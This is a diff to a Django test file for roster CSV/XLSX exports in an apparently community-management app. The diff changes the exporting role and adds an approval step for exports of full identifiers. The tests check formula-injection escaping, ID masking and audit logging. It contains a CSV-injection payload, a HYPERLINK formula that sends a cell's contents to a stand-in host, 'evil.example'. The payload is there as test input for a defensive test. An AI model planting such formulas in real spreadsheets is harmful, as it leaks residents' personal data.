@@ -14,6 +14,7 @@ from frontline.core.models import AuditLog
 from frontline.core.validators import id_check_char
 from frontline.grid.roster import roster_apply
 from frontline.people.models import Person
+from tests.exports import full_export
 
 EVIL = '=HYPERLINK("http://evil.example/?d="&F5,"点击查看")'
 
@@ -55,12 +56,12 @@ def test_xlsx_export_writes_formula_like_text_as_text(city, client_for, evil):
 
 
 def test_csv_export_prefixes_formula_like_text_and_is_masked_marked_and_audited(city, client_for, evil):
-    response = client_for("grid").get(f"/areas/{city.grid.pk}/roster.xlsx?format=csv")
+    response = client_for("secretary").get(f"/areas/{city.grid.pk}/roster.xlsx?format=csv")
     assert response["Content-Disposition"].endswith('.csv"') and response["Content-Type"].startswith("text/csv")
     content = b"".join(response.streaming_content)
     assert content.startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte-order mark: Excel opens it as UTF-8
     rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
-    assert "grid" in rows[1][0] and "请勿转发" in rows[1][0] and "已脱敏" in rows[2][0]
+    assert "secretary" in rows[1][0] and "请勿转发" in rows[1][0] and "已脱敏" in rows[2][0]
     header = rows.index(next(r for r in rows if r and r[0] == "网格编码"))
     data = rows[header + 1:]
     cells = {cell for row in data for cell in row}
@@ -68,12 +69,12 @@ def test_csv_export_prefixes_formula_like_text_and_is_masked_marked_and_audited(
         assert "'" + text in cells and text not in cells
     assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
     assert not cells & set(Person.objects.exclude(id_number=None).values_list("id_number", flat=True))  # masked
-    assert f"{len(data)} rows" in AuditLog.objects.get(action="export", actor_name="grid").note
+    assert f"{len(data)} rows" in AuditLog.objects.get(action="export", actor_name="secretary").note
 
 
-def test_csv_export_of_full_identifiers_needs_the_right_to_reveal(city, client_for):
+def test_csv_export_of_full_identifiers_needs_the_right_to_reveal_and_an_approval(city, client_for):
     assert client_for("volunteer").get(f"/areas/{city.grid.pk}/roster.xlsx?format=csv&full=1").status_code == 403
-    response = client_for("secretary").get(f"/areas/{city.grid.pk}/roster.xlsx?format=csv&full=1")
+    response = full_export(client_for, city.grid, requester="secretary", approver="street", fmt="csv")
     rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
     ids = set(Person.objects.exclude(id_number=None).values_list("id_number", flat=True))
     assert response["Content-Type"].startswith("text/csv") and any(cell in ids for row in rows for cell in row)
